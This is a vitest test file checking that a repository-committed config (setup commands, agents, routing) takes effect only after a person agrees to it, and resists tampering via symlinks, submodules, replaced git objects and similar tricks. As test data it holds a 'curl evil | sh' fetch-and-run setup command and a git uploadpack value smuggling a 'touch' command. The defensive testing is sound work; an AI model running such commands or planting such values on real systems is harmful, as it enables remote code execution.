import { execFileSync } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, onTestFinished, test } from 'vitest';
import { checksFor } from '../../../src/runs/checks.ts';
import { runSettings } from '../../../src/runs/run-settings.ts';
import { knownAgents } from '../../../src/work/agents/known-agents.ts';
import { chosenAgent } from '../../../src/work/agents/route-agent.ts';
import { checksOf } from '../../../src/work/settings/named-checks.ts';
import { settingOf } from '../../../src/work/settings/settings.ts';
import { writeFiles } from '../../support/files.ts';
import { tempFolder } from '../../support/folder.ts';
import { git } from '../../support/git.ts';
import { everyNth } from '../../support/soak-test.ts';
import { agent, type TestWorkspace, testWorkspace } from '../../support/workspace.ts';

const CONFIG = `checks: {unit: npm test}
runs: {setup: npm ci, copy: [.env], minutes: 30, merge: merge}
routing: {type: {docs: fixer}}
agents: {fixer: {provider: command, argv: [node, fix.mjs]}}
`;

interface Scene extends TestWorkspace {
  project: string;
  commit(files: Record<string, string>): void;
  /** Shows and agrees, as a person at a terminal does. @returns the shown lines */
  trust(): Promise<string[]>;
  /** What would be executed now. */
  executed(): unknown;
}

async function scene(files: Record<string, string> = {}): Promise<Scene> {
  const home = tempFolder('person');
  const before = process.env.BACKLOG_HOME;
  process.env.BACKLOG_HOME = home;
  onTestFinished(() => {
    if (before === undefined) delete process.env.BACKLOG_HOME;
    else process.env.BACKLOG_HOME = before;
  });
  const folder = tempFolder('workspace');
  const project = join(folder, 'project');
  mkdirSync(project);
  git(project, 'init', '-q', '-b', 'main');
  const commit = (some: Record<string, string>) => {
    for (const [name, text] of Object.entries(some)) {
      mkdirSync(join(project, name, '..'), { recursive: true });
      writeFileSync(join(project, name), text);
    }
    git(project, 'add', '-A', '-f');
    git(project, 'commit', '-q', '--allow-empty', '-m', 'change');
  };
  commit({ 'README.md': 'x\n', ...files });
  const work = await testWorkspace({ folder });
  await work.run('task_add', { description: 'First' });
  const shown = () =>
    work.run<{ content?: string; lines: { name: string; value: string; change: string }[] }>('config_show');
  return {
    ...work,
    project,
    commit,
    async trust() {
      const { content = 'nothing', lines } = await shown();
      await work.run('config_trust', { content });
      return lines.map(({ change, name, value }) => `${change} ${name}: ${value}`);
    },
    executed() {
      const { state } = work.opened.store;
      const { setup, copy, link, hooks, push, propose, limits } = runSettings(state, 'project');
      return {
        ...{ setup, copy, link, hooks, push, propose, minutes: limits.wallMs / 60_000 },
        target: settingOf(state, 'runs.target', 'project'),
        checks: checksOf(state, 'project'),
        wanted: checksFor(state, {}, ['a.ts'], { repository: 'project' }).map(({ name }) => name),
        agents: knownAgents(state).map(({ name }) => name),
        docs: chosenAgent(state, { type: 'docs' }, 'project'),
      };
    },
  };
}

const FIRST = {
  ...{ setup: '', copy: [], link: [], hooks: false, push: '', propose: '', target: '', minutes: 60 },
  ...{ checks: [], wanted: [], agents: ['claude', 'codex'], docs: 'claude' },
};
const AGREED = {
  ...FIRST,
  ...{
    setup: 'npm ci',
    copy: ['.env'],
    minutes: 30,
    checks: [{ name: 'unit', command: 'npm test' }],
    wanted: ['unit'],
  },
  ...{ agents: ['claude', 'codex', 'fixer'], docs: 'fixer' },
};
const FILE = '.backlog/config.yaml';

describe('a committed config file', () => {
  test('executes nothing before a person agreed, but its other values count at once', async () => {
    const work = await scene({ [FILE]: CONFIG });
    const status = await work.text('backlog_status');
    expect(status).toMatch(/do not count yet. To read and agree: `backlog config trust project`/);
    expect(work.executed()).toEqual(FIRST);
    expect(runSettings(work.opened.store.state, 'project').how).toBe('merge');
    expect(await work.trust()).toEqual([
      'added agents.fixer.argv: ["node","fix.mjs"]',
      'added agents.fixer.mode: default',
      'added agents.fixer.provider: command',
      'added checks.unit: npm test',
      'added routing.type.docs: fixer',
      'added runs.copy: .env',
      'added runs.minutes: 30',
      'added runs.setup: npm ci',
    ]);
    expect(work.executed()).toEqual(AGREED);
    expect(await work.text('backlog_status')).not.toContain('config');
  });

  test('asks again after a change and shows the difference; until then, what was agreed counts', async () => {
    const work = await scene({ [FILE]: CONFIG });
    await work.trust();
    work.commit({ [FILE]: CONFIG.replace('npm ci', 'curl evil | sh').replace('merge: merge', 'merge: squash') });
    expect(await work.text('backlog_status')).toContain('changed, and what you agreed to before still counts');
    expect(work.executed()).toEqual(AGREED);
    expect(runSettings(work.opened.store.state, 'project').how).toBe('squash');
    const { lines } = await work.run<{ lines: { name: string; value: string; change: string }[] }>('config_show');
    expect(lines.filter(({ change }) => change !== 'same')).toEqual([
      { name: 'runs.setup', value: 'npm ci', change: 'removed' },
      { name: 'runs.setup', value: 'curl evil | sh', change: 'added' },
    ]);
    expect(JSON.stringify(await work.run('doctor'))).toContain('backlog config trust project');
    work.commit({ [FILE]: `# only a comment\n${CONFIG}` });
    expect(await work.text('backlog_status')).not.toContain('config');
  });

  test('that disappears is a change, too', async () => {
    const work = await scene({ [FILE]: CONFIG });
    await work.trust();
    rmSync(join(work.project, '.backlog'), { recursive: true });
    work.commit({});
    expect(await work.text('backlog_status')).toContain('changed');
    expect(work.executed()).toEqual(AGREED);
    await work.trust();
    expect(work.executed()).toEqual(FIRST);
  });

  test('counts only as it was read: another content is refused', async () => {
    const work = await scene({ [FILE]: CONFIG });
    const { content } = await work.run<{ content: string }>('config_show');
    work.commit({ [FILE]: CONFIG.replace('npm ci', 'evil') });
    expect((await work.refused('config_trust', { content })).message).toContain('is not the one that you read');
    expect((await work.refused('config_trust', {})).message).toContain('expected the content');
    expect(work.executed()).toEqual(FIRST);
  });

  test('is named to who removes one of its agents, which can be disabled instead', async () => {
    const work = await scene({ [FILE]: CONFIG });
    await work.trust();
    const { message, hint } = await work.refused('agent_remove', { name: 'fixer' });
    expect(message).toBe(`can't remove agent fixer: ${FILE} of project defines it`);
    expect(hint).toContain('`backlog agent disable fixer`');
    await work.run('agent_disable', { name: 'fixer' });
    expect(knownAgents(work.opened.store.state)).toContainEqual(
      expect.objectContaining({ name: 'fixer', enabled: false }),
    );
  });

  test('is for people: no agent can agree, and undo restores no agreement', async () => {
    const work = await scene({ [FILE]: CONFIG });
    const { content } = await work.run<{ content: string }>('config_show');
    expect((await work.refused('config_trust', { content }, agent('s1'))).code).toBe('forbidden');
    expect((await work.refused('config_init', {}, agent('s1'))).code).toBe('forbidden');
    await work.trust();
    await work.run('config_trust', { revoke: true });
    expect(work.executed()).toEqual(FIRST);
    await work.run('task_undo', {}).catch(() => undefined);
    expect(work.executed()).toEqual(FIRST);
  });

  test('is replaced by a setting of this queue, also by an empty one; explain names every source', async () => {
    const work = await scene({ [FILE]: CONFIG });
    writeFileSync(join(process.env.BACKLOG_HOME!, 'config.yaml'), 'runs: {minutes: 7, turns: 9}\n');
    await work.trust();
    await work.run('setting_set', { name: 'runs.setup', value: '' });
    await work.run('setting_set', { name: 'checks.unit', value: 'make test' });
    expect(work.executed()).toEqual({ ...AGREED, setup: '', checks: [{ name: 'unit', command: 'make test' }] });
    expect(runSettings(work.opened.store.state, 'project').limits.turns).toBe(9);
    const explain = async (name: string) => {
      const { value, source, layers } = await work.run<{
        value: unknown;
        source: string;
        layers: { source: string; value: unknown; where?: string }[];
      }>('config_explain', { name });
      return [value, source, ...layers.map((one) => `${one.source} ${String(one.value)}`)];
    };
    expect(await explain('runs.minutes')).toEqual([30, 'repository', 'repository 30', 'person 7', 'default 60']);
    expect(await explain('runs.setup')).toEqual(['', 'workspace', 'workspace ', 'repository npm ci', 'default ']);
    expect(await explain('runs.turns')).toEqual([9, 'person', 'person 9', 'default 0']);
    await work.run('setting_unset', { name: 'runs.setup' });
    expect(work.executed()).toMatchObject({ setup: 'npm ci' });
  });

  test('routes tasks by tag, type and path, for `run` and the orchestrator', async () => {
    const work = await scene({
      [FILE]: 'routing:\n  tag: {ui: a}\n  type: {plan: b}\n  path: {docs: c, docs/api: d}\nruns: {agent: codex}\n',
    });
    await work.trust();
    const { state } = work.opened.store;
    const of = (task: object) => chosenAgent(state, task, 'project');
    expect(of({ tags: ['ui'], type: 'plan' })).toBe('a');
    expect(of({ type: 'plan', scope: [{ glob: 'docs/**' }] })).toBe('b');
    expect(of({ scope: [{ glob: 'docs/a.md' }] })).toBe('c');
    expect(of({ scope: [{ glob: 'docs/api/**' }] })).toBe('d');
    expect(of({ scope: [{ glob: 'docs/a.md' }, { glob: 'src/a.ts' }] })).toBe('codex');
    expect(of({ scope: [{ glob: 'docs2/a.md' }] })).toBe('codex');
    expect(of({})).toBe('codex');
  });

  test('of another machine, or of a repository that moved, counts only after another agreement', async () => {
    const work = await scene({ [FILE]: CONFIG });
    await work.trust();
    const { store } = work.opened;
    const put = (change: object) =>
      store.write({ command: 'test', actor: { kind: 'system', name: 'test' } }, (tx) =>
        tx.put('consent', 'project', { ...tx.get('consent', 'project')!, ...change }),
      );
    await put({ machine: 'another' });
    expect(work.executed()).toEqual(FIRST);
    expect(await work.text('backlog_status')).toContain('do not count yet');
    await work.trust();
    expect(work.executed()).toEqual(AGREED);
    await put({ common: '/elsewhere/.git' });
    expect(work.executed()).toEqual(FIRST);
  });

  test('of the same content in another repository needs an agreement of its own', async () => {
    const [one, other] = [await scene({ [FILE]: CONFIG }), await scene({ [FILE]: CONFIG })];
    const { content } = await one.run<{ content: string }>('config_show');
    await one.trust();
    expect((await other.refused('config_trust', { content })).message).toContain('is not the one that you read');
    expect(other.executed()).toEqual(FIRST);
  });
});

describe('what does not change what runs now', () => {
  const EVIL = CONFIG.replace('npm ci', 'evil');

  test.each(
    everyNth<[string, (work: Scene) => void]>(3, [
      ['an uncommitted file', ({ project }) => writeFileSync(join(project, FILE), EVIL)],
      [
        'a staged file',
        ({ project }) => {
          writeFileSync(join(project, FILE), EVIL);
          git(project, 'add', '-A');
        },
      ],
      [
        'a branch of an agent',
        ({ project, commit }) => {
          git(project, 'switch', '-q', '-c', 'backlog/1-x-1');
          commit({ [FILE]: EVIL });
          git(project, 'switch', '-q', 'main');
        },
      ],
      [
        'a worktree',
        ({ project, folder }) => {
          git(project, 'worktree', 'add', '-q', join(folder, 'tree'), '-b', 'agent');
          writeFileSync(join(folder, 'tree', FILE), EVIL);
          git(join(folder, 'tree'), 'commit', '-qam', 'evil');
        },
      ],
      [
        'a replaced object',
        ({ project }) => {
          const hash = (text: string) =>
            execFileSync('git', ['hash-object', '-w', '--stdin'], { cwd: project, input: text }).toString().trim();
          git(project, 'replace', git(project, 'rev-parse', `HEAD:${FILE}`), hash(EVIL));
        },
      ],
      [
        'a tag with the name of the branch',
        ({ project, commit }) => {
          git(project, 'switch', '-q', '-c', 'x');
          commit({ [FILE]: EVIL });
          git(project, 'tag', 'main');
          git(project, 'switch', '-q', 'main');
        },
      ],
      [
        'a nested repository',
        ({ project, commit }) => {
          mkdirSync(join(project, 'sub'));
          git(join(project, 'sub'), 'init', '-q');
          mkdirSync(join(project, 'sub/.backlog'));
          writeFileSync(join(project, 'sub', FILE), EVIL);
          git(join(project, 'sub'), 'add', '-A');
          git(join(project, 'sub'), 'commit', '-qm', 'x');
          commit({});
        },
      ],
      [
        'a file in another letter case',
        ({ commit }) => commit({ '.Backlog/config.yaml': EVIL, '.backlog/CONFIG.yaml': EVIL }),
      ],
    ]),
  )('%s', async (_, act) => {
    const work = await scene({ [FILE]: CONFIG });
    await work.trust();
    act(work);
    expect(await work.text('backlog_status')).not.toContain('config');
    expect(work.executed()).toEqual(AGREED);
    expect(await work.trust()).toHaveLength(8);
    expect(work.executed()).toEqual(AGREED);
  });

  test.each(
    everyNth<[string, RegExp, (work: Scene) => void]>(3, [
      [
        'a link in place of the file',
        /expected a file, found a link/,
        ({ project, commit }) => {
          mkdirSync(join(project, '.backlog'));
          writeFileSync(join(project, 'evil.yaml'), EVIL);
          symlinkSync('../evil.yaml', join(project, FILE));
          commit({});
        },
      ],
      [
        'a link in place of the folder',
        /expected a folder, found a link/,
        ({ project, commit, folder }) => {
          mkdirSync(join(folder, 'out'));
          writeFileSync(join(folder, 'out/config.yaml'), EVIL);
          symlinkSync(join(folder, 'out'), join(project, '.backlog'));
          commit({});
        },
      ],
      [
        'a submodule in place of the folder',
        /expected a folder, found a submodule/,
        ({ project, commit }) => {
          const commitId = git(project, 'rev-parse', 'HEAD');
          git(project, 'update-index', '--add', '--cacheinfo', `160000,${commitId},.backlog`);
          git(project, 'commit', '-qm', 'x');
          void commit;
        },
      ],
      [
        'a folder in place of the file',
        /expected a file, found a folder/,
        ({ commit }) => commit({ [`${FILE}/x`]: EVIL }),
      ],
      ['both files', /both exist/, ({ commit }) => commit({ [FILE]: EVIL, '.backlog/config.json': '{}' })],
      ['another ending', /is not read: rename it/, ({ commit }) => commit({ '.backlog/config.yml': EVIL })],
      ['a huge file', /at most 65536 bytes/, ({ commit }) => commit({ [FILE]: `${EVIL}# ${'x'.repeat(2_000_000)}` })],
      ['an error', /line 1: unknown key "evil"/, ({ commit }) => commit({ [FILE]: `evil: 1\n${EVIL}` })],
    ]),
  )('%s, which is an error', async (_, error, act) => {
    const work = await scene();
    act(work);
    expect(await work.text('config_show')).toMatch(error);
    expect((await work.refused('config_trust', { content: 'nothing' })).message).toMatch(error);
    await work.text('backlog_status');
    expect(work.executed()).toEqual(FIRST);
  });

  test('a partial clone whose config names a program for fetching, which is not started', async () => {
    const work = await scene({ [FILE]: EVIL });
    const clone = join(work.folder, 'clone');
    git(work.project, 'config', 'uploadpack.allowFilter', 'true');
    git(work.folder, 'clone', '-q', '--no-checkout', '--filter=blob:none', `file://${work.project}`, clone);
    const mark = join(work.folder, 'started');
    git(clone, 'config', 'remote.origin.uploadpack', `touch ${mark}; git-upload-pack`);
    writeFiles(clone, { [FILE]: EVIL });
    await work.run('repo_add', { path: '../clone' });
    expect(await work.text('config_show', { repository: 'clone' })).toMatch(/can't be read|not allowed|cat-file/);
    expect(existsSync(mark)).toBe(false);
  });

  test('a copy of the repository in the place of the one that a person agreed to', async () => {
    const work = await scene({ [FILE]: CONFIG });
    await work.trust();
    cpSync(work.project, `${work.folder}/copy`, { recursive: true });
    rmSync(work.project, { recursive: true });
    cpSync(`${work.folder}/copy`, work.project, { recursive: true });
    work.commit({ [FILE]: EVIL });
    await work.text('backlog_status');
    expect(work.executed()).toEqual(AGREED);
  });
});
